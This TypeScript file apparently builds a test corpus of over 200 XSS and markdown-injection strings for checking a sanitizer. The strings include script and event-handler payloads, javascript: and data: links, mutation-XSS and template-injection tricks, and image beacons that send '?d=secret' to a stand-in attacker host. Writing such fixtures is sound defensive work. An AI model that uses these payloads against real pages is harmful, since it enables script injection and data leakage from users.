// Markup that wants to run, load or break something, made from vectors and the ways to wrap them. Whoever runs calls
// `pwned()`; whoever loads asks the address that is given.

const script = 'globalThis.pwned=1';

function vectors(attacker: string): string[] {
  return [
    `<script>${script}</script>`,
    `<script src="${attacker}/x.js"></script>`,
    `<img src=x onerror="${script}">`,
    `<img src="${attacker}/beacon.png">`,
    `<svg onload="${script}">`,
    `<svg><script>${script}</script></svg>`,
    `<svg><a xlink:href="javascript:${script}"><text>x</text></a></svg>`,
    `<math><mtext><mglyph><style><img src=x onerror="${script}"></style></mglyph></mtext></math>`,
    `<iframe src="javascript:${script}"></iframe>`,
    `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
    `<object data="data:text/html,<script>${script}</script>"></object>`,
    `<embed src="${attacker}/x.swf">`,
    `<base href="${attacker}/">`,
    `<meta http-equiv="refresh" content="0;url=${attacker}/">`,
    `<link rel="stylesheet" href="${attacker}/x.css">`,
    `<link rel="prefetch" href="${attacker}/p">`,
    `<style>@import url(${attacker}/x.css); * { background: url(${attacker}/y) }</style>`,
    `<div style="background:url(${attacker}/z);position:fixed;inset:0">x</div>`,
    `<form id="root" action="${attacker}/"><input name="attributes"><button>x</button></form>`,
    `<a id="main" name="main" href="javascript:${script}">x</a>`,
    `<details open ontoggle="${script}"><summary>x</summary></details>`,
    `<video autoplay onloadstart="${script}"><source src="${attacker}/v.mp4"></video>`,
    `<audio src="${attacker}/a.mp3" autoplay></audio>`,
    `<body onload="${script}">`,
    `<input autofocus onfocus="${script}">`,
    `<marquee onstart="${script}">x</marquee>`,
    `<a href="javascript:${script}">x</a>`,
    `<a href="java&#x0a;script:${script}">x</a>`,
    `<a href="data:text/html,<script>${script}</script>">x</a>`,
    `<template><script>${script}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
    `<!--><img src=x onerror=${script}>-->`,
    `<![CDATA[<img src=x onerror=${script}>]]>`,
    `"><img src=x onerror=${script}>`,
    `'-${script}-'`,
    `\${${script}}`,
    `{{constructor.constructor('${script}')()}}`,
    `\u202e\u2066<img src=x onerror=${script}>\u2069`,
    `<img src="data:image/svg+xml,<svg onload='${script}'>">`,
    `&lt;script&gt;${script}&lt;/script&gt;`,
  ];
}

const links = (attacker: string) => [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  `java\tscript:${script}`,
  `&#106;avascript:${script}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${script}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnB3bmVkPTE8L3NjcmlwdD4=`,
  `blob:${attacker}/1`,
  `file:///etc/passwd`,
  `//${attacker.replace(/^https?:\/\//, '')}/protocol-relative`,
  `ftp://example.org/x`,
  `intent://x#Intent;end`,
  `ws://example.org`,
  `about:blank`,
  `view-source:${attacker}`,
];

/** More than 200 texts. */
export function markupAttacks(attacker: string): string[] {
  const raw = vectors(attacker);
  const wrapped = [
    ...raw,
    ...raw.map((text) => `**${text}**`),
    ...raw.map((text) => `| a | b |\n|---|---|\n| ${text.replaceAll('|', '\\|')} | x |`),
    ...raw.map((text) => `> - ${text}`),
    ...raw.map((text) => `# ${text}`),
  ];
  const markdown = links(attacker).flatMap((link) => [
    `[click](${link})`,
    `[click](<${link}>)`,
    `![image](${link})`,
    `<${link}>`,
    `[ref]\n\n[ref]: ${link}`,
  ]);
  const beacons = [
    `![x](${attacker}/?d=secret)`,
    `![x](<${attacker}/a b>)`,
    `[![x](${attacker}/in-link)](https://example.org)`,
    `![x][b]\n\n[b]: ${attacker}/ref`,
  ];
  const ids = ['# main', '[^root]\n\n[^root]: note', '<h1 id="root">x</h1>', '- [ ] task'];
  return [...wrapped, ...markdown, ...beacons, ...ids];
}
